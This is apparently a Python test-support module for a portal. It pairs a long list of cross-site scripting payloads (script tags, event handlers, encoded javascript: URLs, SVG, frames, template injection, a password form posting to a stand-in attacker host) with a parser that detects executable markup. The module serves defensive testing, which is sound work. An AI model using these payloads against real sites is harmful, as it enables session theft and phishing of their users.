"""Hostile markup for the portal's free-text fields, and what says whether any of it can run in a page.

`PAYLOADS` are strings a company, a contact or a student could type: scripts, event handlers, dangerous URL
schemes (plain, mixed-case, entity-encoded, split by control characters), SVG and MathML, styles, frames,
plug-ins, `<base>`, `<meta refresh>`, forms, broken and unclosed markup, comment tricks and template syntax.
Each one that runs would set `window.__xss` (or call `alert`), which the browser test watches.

`executable_markup(html)` parses a page as a browser would read its tags and lists every construct that can
run script, load active content or send the reader elsewhere. The portal's own pages hold none of them, so
any finding comes from a payload.
"""

from html.parser import HTMLParser

PAYLOADS = [
    # scripts
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(document.cookie)</script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script src=//e.ex>",
    "<<script>script>window.__xss=1<</script>/script>",
    '"><script>window.__xss=1</script>',
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    # event handlers
    '<img src=x onerror="window.__xss=1">',
    "<img src=x:x onerror=alert(1)//",
    "'><img src=x onerror=window.__xss=1>",
    '<img """><script>window.__xss=1</script>">',
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    '<video><source onerror="window.__xss=1"></video>',
    "<marquee onstart=window.__xss=1>x</marquee>",
    "<x onclick=window.__xss=1>cliquez</x>",
    '<a href="https://ok.example/" onmouseover="window.__xss=1">survol</a>',
    "<img\x0csrc=x\x0conerror=window.__xss=1>",
    "<p onclick=alert()>",
    # URL schemes
    '<a href="javascript:window.__xss=1">lien</a>',
    '<a href="JaVaScRiPt:window.__xss=1">lien</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">lien</a>',
    '<a href="&#x6A;avascript&colon;window.__xss=1">lien</a>',
    '<a href="java&#x09;script:window.__xss=1">lien</a>',
    '<a href=" &#14;  javascript:window.__xss=1">lien</a>',
    '<IMG SRC="jav&#x0A;ascript:window.__xss=1">',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">lien</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<a href="VBScript:msgbox(1)">lien</a>',
    '<table background="javascript:window.__xss=1"><tr><td>x</td></tr></table>',
    # SVG and MathML
    "<svg onload=window.__xss=1>",
    "<svg/onload=alert()>",
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<math href="javascript:window.__xss=1">x</math>',
    # styles
    '<style>body{background:url("javascript:window.__xss=1")}</style>',
    '<div style="width:expression(window.__xss=1)">x</div>',
    '<p style="background-image:url(javascript:window.__xss=1)">x</p>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    # frames, plug-ins, document-wide elements
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>window.__xss=1</script>"></iframe>',
    '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
    '<embed src="javascript:window.__xss=1">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<form action="https://evil.example/steal"><input name=password><button>Envoyer</button></form>',
    '<button formaction="javascript:window.__xss=1">x</button>',
    # broken markup and comment tricks
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    "<![CDATA[<script>window.__xss=1</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<p>texte <b>non fermé <i>encore",
    # template syntax (Django, then client-side frameworks)
    '{{ "evaluated"|slice:"::-1" }}',
    '{% filter cut:"-" %}gab-arit-tag{% endfilter %}',
    "{{constructor.constructor('window.__xss=1')()}}",
]

# What an evaluated template payload would leave in a page, in any case: words the payloads hold only in pieces.
TEMPLATE_OUTPUTS = ("detaulave", "gabarittag")

URL_ATTRIBUTES = frozenset(
    {
        "action",
        "background",
        "cite",
        "codebase",
        "data",
        "dynsrc",
        "formaction",
        "href",
        "longdesc",
        "lowsrc",
        "manifest",
        "ping",
        "poster",
        "src",
        "srcset",
        "xlink:href",
    }
)
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Elements that run script, embed documents or plug-ins, or change how the whole page is read.
# Raw-text elements are among them: a browser reads their content differently (`<noscript>` while scripts run).
FORBIDDEN_ELEMENTS = frozenset(
    {
        "applet",
        "base",
        "embed",
        "frame",
        "frameset",
        "iframe",
        "isindex",
        "math",
        "noembed",
        "noframes",
        "noscript",
        "object",
        "plaintext",
        "style",
        "svg",
        "template",
        "xmp",
    }
)
DANGEROUS_STYLE = ("expression", "url(", "javascript:", "behavior", "-moz-binding", "@import")


def _bare_url(value: str) -> str:
    """A URL as a browser resolves its scheme: without the blanks and control characters it ignores."""
    return "".join(char for char in value if ord(char) > 0x20).lower()


def _is_own_url(value: str) -> bool:
    """A URL of the portal itself: a path or a query, never another origin (`//host`)."""
    return value == "" or value.startswith("?") or (value.startswith("/") and not value.startswith("//"))


class _Findings(HTMLParser):
    def __init__(self, *, inline_styles: bool):
        super().__init__(convert_charrefs=True)
        self.inline_styles = inline_styles
        self.findings: list[str] = []
        self._script_open = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        shown = self.get_starttag_text()
        if tag in FORBIDDEN_ELEMENTS:
            self.findings.append(f"<{tag}> element: {shown}")
        elif tag == "script":
            self._script_open = True
            if not (attributes.get("src") or "").startswith("/static/"):
                self.findings.append(f"script not from the portal's static files: {shown}")
        elif tag == "meta" and set(attributes) - {"charset", "name", "content"}:
            self.findings.append(f"<meta> beyond charset/name/content: {shown}")
        elif tag == "link" and not (attributes.get("href") or "").startswith("/static/"):
            self.findings.append(f"<link> to something else than the portal's static files: {shown}")
        elif tag == "form" and not _is_own_url((attributes.get("action") or "").strip()):
            self.findings.append(f"form sent elsewhere: {shown}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.findings.append(f"event handler {name}: {shown}")
            elif name in ("srcdoc", "formaction"):
                self.findings.append(f"{name} attribute: {shown}")
            elif name == "style" and (not self.inline_styles or any(word in value.lower() for word in DANGEROUS_STYLE)):
                self.findings.append(f"style attribute: {shown}")
            elif name in URL_ATTRIBUTES and _bare_url(value).startswith(DANGEROUS_SCHEMES):
                self.findings.append(f"{_bare_url(value).split(':')[0]}: URL in {name}: {shown}")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._script_open = False

    def handle_endtag(self, tag):
        if tag == "script":
            self._script_open = False

    def handle_data(self, data):
        if self._script_open and data.strip():
            self.findings.append(f"inline script: {data.strip()[:80]}")


def executable_markup(html: str, *, inline_styles: bool = False) -> list[str]:
    """Every construct in `html` that could run script or load active content, as readable findings.

    `inline_styles` accepts harmless `style` attributes (e-mails are styled inline); web pages have none.
    """
    parser = _Findings(inline_styles=inline_styles)
    parser.feed(html)
    parser.close()
    findings = parser.findings
    findings += [f"template evaluated: {word}" for word in TEMPLATE_OUTPUTS if word in html.lower()]
    return findings


def packed(limit: int, payloads=PAYLOADS) -> list[str]:
    """The payloads joined into as few strings of at most `limit` characters as possible, each one whole."""
    values, current = [], ""
    for payload in payloads:
        if len(payload) > limit:
            continue
        joined = f"{current} {payload}" if current else payload
        if len(joined) > limit:
            values.append(current)
            joined = payload
        current = joined
    if current:
        values.append(current)
    return values


# The payloads that would run as soon as a page shows them, without anyone clicking: the browser test's choice.
NASTIEST = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1;alert(1)">',
    "<svg onload=alert(1)>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    '"><img src=x onerror=window.__xss=1>',
    "</textarea><script>window.__xss=1</script>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="data:text/html,<script>parent.__xss=1</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="https://evil.example/">',
    '<a href="javascript:window.__xss=1">lien</a>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    '{{ "evaluated"|slice:"::-1" }}',
]
